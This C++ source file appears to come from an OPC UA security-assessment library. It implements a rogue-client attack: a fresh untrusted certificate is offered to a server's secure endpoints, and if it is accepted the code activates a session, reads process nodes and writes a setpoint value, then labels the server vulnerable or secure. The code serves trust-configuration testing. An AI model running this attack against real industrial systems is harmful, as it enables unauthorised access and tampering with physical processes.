#include "uatrust/attacks/rogue_client.hpp"

#include "uatrust/server/node_store.hpp"

namespace uatrust::attacks {

namespace pu = secchan::policy_uri;
using client::ClientErrc;
using client::ClientError;
using codec::MessageSecurityMode;

namespace {

bool is_trust_status(StatusCode s)
{
    return s == status::BadCertificateUntrusted || s == status::BadCertificateInvalid ||
           s == status::BadCertificateTimeInvalid || s == status::BadCertificateUriInvalid ||
           s == status::BadSecurityChecksFailed;
}

bool is_auth_status(StatusCode s)
{
    return s == status::BadUserAccessDenied || s == status::BadIdentityTokenRejected ||
           s == status::BadIdentityTokenInvalid || s == status::BadNotWritable ||
           s == status::BadSecurityModeRejected || s == status::BadSessionNotActivated;
}

StepResult classify_error(const ClientError& e)
{
    if (e.code() == ClientErrc::TrustRejected || is_trust_status(e.status())) return StepResult::TrustRejected;
    if (e.code() == ClientErrc::AuthFailed || is_auth_status(e.status())) return StepResult::AuthRejected;
    return StepResult::Failed;
}

std::string short_policy(const std::string& uri)
{
    const auto hash = uri.rfind('#');
    return hash == std::string::npos ? uri : uri.substr(hash + 1);
}

bool offers(const codec::EndpointDescription& ep, codec::UserTokenType type)
{
    for (const auto& t : ep.user_identity_tokens)
        if (t.token_type == type) return true;
    return false;
}

class Run {
public:
    Run(const TargetDescriptor& target, const RogueClientOptions& options) : target_(target), opts_(options)
    {
        identity_ = options.identity ? *options.identity : fresh_attacker_identity();
        nodes_ = options.nodes.empty() ? std::vector<codec::NodeId>{server::nodes::sensor(), server::nodes::setpoint(),
                                                                     server::nodes::status()}
                                       : options.nodes;
        probe_ = options.write_probe.value_or(server::nodes::setpoint());
        out_.attack = AttackKind::RogueClient;
        out_.attacker_certificates.push_back(identity_.certificate.thumbprint);
    }

    AttackOutcome execute()
    {
        bool any_secure = false;
        for (const auto& ep : target_.endpoints) {
            if (ep.security_mode != MessageSecurityMode::SignAndEncrypt && ep.security_mode != MessageSecurityMode::Sign)
                continue;
            any_secure = true;
            attack_endpoint(ep);
        }
        if (!any_secure) out_.notes.push_back("target offers no secure endpoint");
        if (out_.has(EvidenceKind::UntrustedChannelAccepted)) {
            out_.result = AttackResult::Vulnerable;
        } else {
            bool failed = false;
            for (const auto& a : out_.attempts) failed = failed || a.result == StepResult::Failed;
            out_.result = failed ? AttackResult::Inconclusive : AttackResult::Secure;
        }
        return std::move(out_);
    }

private:
    void attempt(std::string step, const std::string& where, StepResult result, StatusCode status, std::string detail)
    {
        out_.attempts.push_back({std::move(step), where, result, status, std::move(detail)});
    }

    void attack_endpoint(const codec::EndpointDescription& ep)
    {
        const std::string policy = ep.security_policy_uri.value_or("");
        const std::string mode = codec::to_string(ep.security_mode);
        const std::string where = ep.endpoint_url.value_or(target_.url()) + " " + mode + "/" + short_policy(policy);
        if (policy == pu::None || !secchan::is_known_policy(policy) || secchan::is_deprecated_policy(policy)) {
            out_.notes.push_back("skipped " + where + ": policy not implemented");
            return;
        }
        if (!ep.server_certificate || ep.server_certificate->empty()) {
            attempt("OpenSecureChannel", where, StepResult::Failed, status::BadCertificateInvalid,
                    "endpoint carries no server certificate");
            return;
        }

        auto transcript = std::make_shared<net::Transcript>(opts_.transcript_label + "-" +
                                                            std::to_string(out_.captures.size() + 1) + "-" + mode);
        out_.captures.push_back(transcript);
        out_.transcripts.push_back(transcript->label());
        client::DialOptions dial;
        dial.timeout = opts_.timeout;
        dial.transcript = transcript;
        dial.dial_override = target_.dial_endpoint();

        std::optional<client::Channel> channel;
        try {
            const auto server_cert = pki::CertificateRecord::parse(*ep.server_certificate);
            channel.emplace(client::Channel::dial(ep.endpoint_url.value_or(target_.url()), dial));
            channel->open(ep.security_mode, policy, identity_, server_cert);
        } catch (const ClientError& e) {
            attempt("OpenSecureChannel", where, classify_error(e), e.status(), e.what());
            return;
        } catch (const pki::PkiError& e) {
            attempt("OpenSecureChannel", where, StepResult::Failed, status::BadCertificateInvalid, e.what());
            return;
        }
        attempt("OpenSecureChannel", where, StepResult::Succeeded, status::Good, "attacker certificate accepted");
        out_.add(EvidenceKind::UntrustedChannelAccepted, Side::Server,
                 "server accepted a " + mode + " channel from a certificate it never trusted",
                 {{"endpoint", where},
                  {"attacker_thumbprint", pki::to_hex(identity_.certificate.thumbprint)},
                  {"attacker_subject", identity_.certificate.subject},
                  {"transcript", transcript->label()}});

        if (!(exploited_ && opts_.stop_after_first_session)) exploit(*channel, ep, where);
        try {
            channel->close();
        } catch (const ClientError&) {
        }
    }

    void exploit(client::Channel& channel, const codec::EndpointDescription& ep, const std::string& where)
    {
        client::SessionHandle session;
        try {
            client::SessionRequestInfo info;
            info.application_uri = identity_.certificate.application_uri;
            info.application_name = identity_.certificate.subject_common_name;
            info.endpoint_url = ep.endpoint_url.value_or("");
            info.session_name = "probe";
            session = client::create_session(channel, info, identity_);
        } catch (const ClientError& e) {
            attempt("CreateSession", where, classify_error(e), e.status(), e.what());
            return;
        }
        attempt("CreateSession", where, StepResult::Succeeded, status::Good, "");

        std::vector<client::UserIdentity> identities;
        if (offers(ep, codec::UserTokenType::Anonymous)) identities.push_back(client::UserIdentity::anonymous());
        if (opts_.credentials && offers(ep, codec::UserTokenType::UserName)) identities.push_back(*opts_.credentials);
        if (identities.empty()) {
            attempt("ActivateSession", where, StepResult::AuthRejected, status::BadIdentityTokenRejected,
                    opts_.credentials ? "no matching user token policy" : "UserName required and no credentials supplied");
            return;
        }
        std::string who;
        for (const auto& user : identities) {
            who = user.is_anonymous() ? "anonymous" : *user.user_name;
            try {
                client::activate_session(channel, session, ep, user, identity_);
                attempt("ActivateSession", where, StepResult::Succeeded, status::Good, who);
                break;
            } catch (const ClientError& e) {
                attempt("ActivateSession", where, classify_error(e), e.status(), who + ": " + e.what());
            }
        }
        if (!session.activated) return;
        exploited_ = true;

        std::optional<codec::Variant> probe_value;
        for (const auto& node : nodes_) {
            try {
                codec::ReadRequest rq;
                rq.nodes_to_read.push_back({node, codec::kAttributeValue, {}, {}});
                auto resp = channel.call_as<codec::ReadResponse>(rq, session.authentication_token);
                const auto dv = resp.results.empty() ? codec::DataValue{} : resp.results.front();
                const StatusCode st = dv.status.value_or(status::Good);
                if (resp.results.size() != 1 || st.bad()) {
                    attempt("Read", node.to_string(), is_auth_status(st) ? StepResult::AuthRejected : StepResult::Failed,
                            st, status_name(st));
                    continue;
                }
                attempt("Read", node.to_string(), StepResult::Succeeded, status::Good, "");
                const auto value = dv.value.value_or(codec::Variant{});
                out_.add(EvidenceKind::ValueRead, Side::Server, "read " + node.to_string() + " as " + who,
                         {{"node", node.to_string()}, {"value", value.to_string()}, {"user", who}});
                if (node == probe_) probe_value = value;
            } catch (const ClientError& e) {
                attempt("Read", node.to_string(), classify_error(e), e.status(), e.what());
            }
        }

        const auto value = opts_.write_value ? opts_.write_value : probe_value;
        if (!value) {
            attempt("Write", probe_.to_string(), StepResult::Failed, status::BadNothingToDo, "no value to write");
        } else {
            try {
                codec::WriteRequest wq;
                codec::WriteValue wv;
                wv.node_id = probe_;
                wv.value.value = *value;
                wq.nodes_to_write.push_back(std::move(wv));
                auto resp = channel.call_as<codec::WriteResponse>(wq, session.authentication_token);
                const StatusCode st = resp.results.empty() ? status::BadUnexpectedError : resp.results.front();
                if (st.good()) {
                    attempt("Write", probe_.to_string(), StepResult::Succeeded, st, "");
                    out_.add(EvidenceKind::ValueWritten, Side::Server, "wrote " + probe_.to_string() + " as " + who,
                             {{"node", probe_.to_string()}, {"value", value->to_string()}, {"user", who}});
                } else {
                    attempt("Write", probe_.to_string(), is_auth_status(st) ? StepResult::AuthRejected : StepResult::Failed,
                            st, status_name(st));
                }
            } catch (const ClientError& e) {
                attempt("Write", probe_.to_string(), classify_error(e), e.status(), e.what());
            }
        }
        try {
            channel.call(codec::CloseSessionRequest{}, session.authentication_token);
        } catch (const ClientError&) {
        }
    }

    const TargetDescriptor& target_;
    const RogueClientOptions& opts_;
    pki::Identity identity_;
    std::vector<codec::NodeId> nodes_;
    codec::NodeId probe_;
    bool exploited_ = false;
    AttackOutcome out_;
};

}  // namespace

pki::Identity fresh_attacker_identity()
{
    const std::string tag = to_hex(random_bytes(4));
    return pki::generate_identity("rogue-" + tag, "urn:rogue:" + tag, 365);
}

AttackOutcome rogue_client(const TargetDescriptor& target, const RogueClientOptions& options)
{
    return Run(target, options).execute();
}

}  // namespace uatrust::attacks
